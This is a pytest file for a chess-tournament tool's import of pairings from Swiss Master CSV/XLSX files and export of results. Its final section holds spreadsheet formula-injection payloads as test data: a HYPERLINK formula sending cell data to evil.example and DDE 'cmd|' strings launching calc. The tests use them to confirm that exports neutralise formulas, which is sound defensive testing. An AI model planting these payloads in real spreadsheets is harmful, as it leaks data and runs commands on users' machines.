"""Interop: pairings in from CSV / XLSX (the Swiss Master `EKSPORT` sheet), results out."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from tableside.competition.rules import commands as cmd
from tableside.competition.rules.entrants import Person
from tableside.competition.rules.errors import CompetitionRuleError
from tableside.competition.rules.guide import Guide
from tableside.competition.rules.interop import (
    ImportedBoard,
    cell,
    pairings_from_csv,
    pairings_from_xlsx,
    results_csv,
    results_xlsx,
)
from tableside.competition.rules.results import MatchResult

from .helpers import AT, Run

NAMES = ["Jānis Bērziņš", "Anna Kalniņa", "Mart Tamm", "Mari Mets", "Uku Saar"]


def named_run() -> Run:
    """Five players registered under their real names."""
    run = Run(Guide("Riga open", format="swiss", rounds=3))
    for i, name in enumerate(NAMES, 1):
        run.do(cmd.RegisterEntrant(f"e{i}", name, (Person(name, 1980, "M"),), AT))
        run.do(cmd.ApproveEntrant(f"e{i}"))
        run.do(cmd.CheckInEntrant(f"e{i}", AT))
    return run


def swiss_master_xlsx() -> bytes:
    """An export workbook as Swiss Master writes it: a title, then Galds and two names."""
    book = Workbook()
    book.active.title = "Rezultāti"
    sheet = book.create_sheet("EKSPORT")
    sheet.append(["2. kārta"])
    sheet.append(["Galds", "Vārds, uzvārds", "Punkti", "Vārds, uzvārds", "Punkti"])
    sheet.append([1, "Jānis Bērziņš", 0, "anna  kalniņa", 0])
    sheet.append([2, "Mart Tamm", 0, "Mari Mets", 0])
    sheet.append([None, "Uku Saar", 0, None, None])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


EXPECTED = (
    ImportedBoard(1, "e1", "e2"),
    ImportedBoard(2, "e3", "e4"),
    ImportedBoard(None, "e5", None),
)


def test_swiss_master_eksport_sheet():
    assert pairings_from_xlsx(swiss_master_xlsx(), named_run().state) == EXPECTED


def test_semicolon_csv_with_bom():
    data = (
        "\ufeffGalds;Vārds, uzvārds;Vārds, uzvārds\n"
        "1;Jānis Bērziņš;Anna Kalniņa\n2;Mart Tamm;Mari Mets\n;Uku Saar;\n"
    ).encode()
    assert pairings_from_csv(data, named_run().state) == EXPECTED


def test_comma_csv_with_english_headers():
    data = b"Table,Player A,Player B\n1,e1,e2\n2,e3,e4\n,e5,\n"
    assert pairings_from_csv(data, named_run().state) == EXPECTED


def test_unknown_name_is_refused():
    data = "Galds;Vārds, uzvārds;Vārds, uzvārds\n1;Nobody;Anna Kalniņa\n".encode()
    with pytest.raises(CompetitionRuleError):
        pairings_from_csv(data, named_run().state)


def test_import_then_export_with_win_loss_draw_codes():
    run = named_run()
    boards = pairings_from_xlsx(swiss_master_xlsx(), run.state)
    run.do(cmd.ImportRound(tuple((b.a, b.b, b.table) for b in boards), AT))
    assert run.state.rounds[1].bye == "e5"
    run.do(cmd.RecordResult("R1-1", MatchResult(3, 1), AT))
    run.do(cmd.RecordResult("R1-2", MatchResult(2, 2), AT))
    rows = list(csv.reader(io.StringIO(results_csv(run.state).decode())))
    assert rows[1][:7] == ["1", "1", "Jānis Bērziņš", "Anna Kalniņa", "3", "1", "1"]
    assert rows[2][:7] == ["1", "2", "Mart Tamm", "Mari Mets", "2", "2", "3"]
    run.do(cmd.PairNextRound(1))
    run.do(cmd.RecordResult("R2-1", MatchResult(0, 3), AT))
    rows = list(csv.reader(io.StringIO(results_csv(run.state).decode())))[1:]
    assert [r[6] for r in rows if r[7] == "played"][-1] == "2"


@pytest.mark.parametrize(
    "boards, rule",
    [
        ((("e1", "e2", 1), ("e1", "e3", 2)), "EKML §12(2)2"),
        ((("e1", None, 1), ("e2", None, 2), ("e3", "e4", 3)), "EKML §32(2) note 3"),
        ((("e1", "zz", 1),), "EKML §32(3)2"),
    ],
    ids=["paired_twice", "ekml_32_2_note3_one_bye", "ekml_32_3_2_not_eligible"],
)
def test_import_refusals(boards, rule):
    with pytest.raises(CompetitionRuleError) as err:
        named_run().do(cmd.ImportRound(boards, AT))
    assert err.value.rule == rule


def test_import_refuses_a_repeat_pairing():
    run = named_run()
    run.do(cmd.ImportRound((("e1", "e2", 1), ("e3", "e4", 2), ("e5", None, None)), AT))
    for p in run.state.rounds[1].pairings:
        run.do(cmd.RecordResult(p.match_id, MatchResult(3, 0), AT))
    with pytest.raises(CompetitionRuleError) as err:
        run.do(cmd.ImportRound((("e2", "e1", 1), ("e3", "e5", 2), ("e4", None, None)), AT))
    assert err.value.rule == "EKML §32"


# OWASP CSV injection / ASVS 5.0 V1.2.10: formula-like text is neutralised, numbers are not.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\tTabbed",
    "\rReturn",
]


def formula_run() -> Run:
    """Two pairs of players named like formulas, one round played."""
    run = Run(Guide("Formula open", format="swiss", rounds=3))
    names = [*FORMULAS[:4], "Anna", "Mari"]
    for i, name in enumerate(names, 1):
        run.do(cmd.RegisterEntrant(f"e{i}", name, (Person(name, 1980, "M"),), AT))
        run.do(cmd.ApproveEntrant(f"e{i}"))
        run.do(cmd.CheckInEntrant(f"e{i}", AT))
    run.do(cmd.ImportRound((("e1", "e2", 1), ("e3", "e4", 2), ("e5", "e6", 3)), AT))
    for board in (1, 2, 3):
        run.do(cmd.RecordResult(f"R1-{board}", MatchResult(3, 1), AT))
    return run


@pytest.mark.parametrize("text", FORMULAS)
def test_v1_2_10_formula_like_text_gets_a_quote(text):
    assert cell(text) == "'" + text


def test_v1_2_10_numbers_and_plain_text_are_kept():
    assert cell(-1) == -1 and cell(-2.5) == -2.5 and cell(3) == 3
    assert cell("Jānis Bērziņš") == "Jānis Bērziņš" and cell("") == ""


def test_v1_2_10_results_csv_writes_no_live_formula():
    rows = list(csv.reader(io.StringIO(results_csv(formula_run().state).decode())))
    names = [name for row in rows[1:] for name in row[2:4]]
    assert names[:4] == ["'" + n for n in FORMULAS[:4]]
    assert names[4:] == ["Anna", "Mari"]
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row)
    assert rows[1][4:7] == ["3", "1", "1"]  # numbers stay numbers


def test_v1_2_10_results_xlsx_writes_text_cells_never_formulas():
    book = load_workbook(io.BytesIO(results_xlsx(formula_run().state)))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [sheet.cell(row=r, column=c) for r in (2, 3) for c in (3, 4)]
    assert [c.value for c in names] == FORMULAS[:4]  # the text as entered, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    assert sheet.cell(row=2, column=5).value == 3 and sheet.cell(row=2, column=5).data_type == "n"
